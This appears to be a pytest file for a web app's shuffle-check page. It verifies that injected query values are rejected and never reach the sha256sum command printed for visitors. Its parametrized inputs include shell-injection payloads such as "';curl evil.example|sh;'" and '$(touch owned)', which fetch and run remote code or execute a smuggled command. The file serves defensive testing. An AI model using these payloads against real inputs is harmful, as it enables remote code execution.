"""Checking a shuffle: who follows a stranger's link and copies the command runs nothing of the stranger's."""

import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from hashlib import sha256
from html import unescape

import pytest
from fastapi import FastAPI

from bottega.engine.words import LANGUAGES
from bottega.web.phrases import say
from bottega.web.storage import new_token

from .visiting import Visitor, house

SALT = "Zm9v-YmFy_YmF6cXV4MTIzNA"
SEAL = sha256(f"42:{SALT}".encode()).hexdigest()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FastAPI]:
    with house(tmp_path_factory.mktemp("house"), ready=False) as app:
        yield app


def command(text: str) -> str:
    found = re.search(r"<code>(.*?)</code>", text, re.DOTALL)
    assert found is not None
    return unescape(found[1])


@pytest.mark.skipif(sys.platform == "win32", reason="the command is for a shell")
def test_the_printed_command_gives_the_seal(app: FastAPI) -> None:
    page = Visitor(app).read(f"/check?seed=42&salt={SALT}&seal={SEAL}")
    assert say("check-good", "en") in page.words
    done = subprocess.run(["sh", "-c", command(page.text)], capture_output=True, text=True, check=True)
    assert done.stdout.split()[0] == SEAL


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("salt", "';curl evil.example|sh;'"),
        ("salt", "$(touch owned)" + "x" * 10),
        ("salt", f"{SALT[:-1]}\n"),
        ("salt", f"{SALT[:-1]}`"),
        ("salt", f"{SALT[:-1]}é"),
        ("salt", SALT[:-1]),
        ("salt", SALT + "x"),
        ("seed", "1:';curl evil.example|sh;'"),
        ("seed", "-1"),
        ("seed", "٤٢"),
        ("seed", str(2**64)),
        ("seed", "9" * 5_000),
        ("seal", "';curl evil.example|sh;'"),
        ("seal", SEAL[:-1]),
        ("seal", SEAL[:-1] + "g"),
    ],
)
def test_what_is_of_no_table_is_refused_and_never_in_the_command(
    app: FastAPI, lang: str, name: str, value: str
) -> None:
    guest = Visitor(app, lang)
    for given in ({"seed": "42", "salt": SALT, "seal": SEAL} | {name: value}, {name: value}):
        answer = guest.http.get("/check", params=given)
        assert answer.status_code == 400
        assert say("check-impossible", lang) in unescape(answer.text)
        assert command(answer.text) == "printf %s SEED:SALT | sha256sum"


def test_salt_and_seal_of_a_table_are_possible(app: FastAPI) -> None:
    for _ in range(50):
        guest, salt = Visitor(app), new_token()
        page = guest.read(f"/check?seed={2**64 - 1}&salt={salt}&seal={SEAL.upper()}")
        assert say("check-bad", "en") in page.words
        words = shlex.split(command(page.text))
        assert words == ["printf", "%s", f"{2**64 - 1}:{salt}", "|", "sha256sum"]


def test_a_seal_alone_is_filled_in(app: FastAPI) -> None:
    """The link of a table in play."""
    page = Visitor(app).read(f"/check?seal={SEAL}")
    assert page.form("/check").fields["seal"] == SEAL
    assert say("check-bad", "en") not in page.words
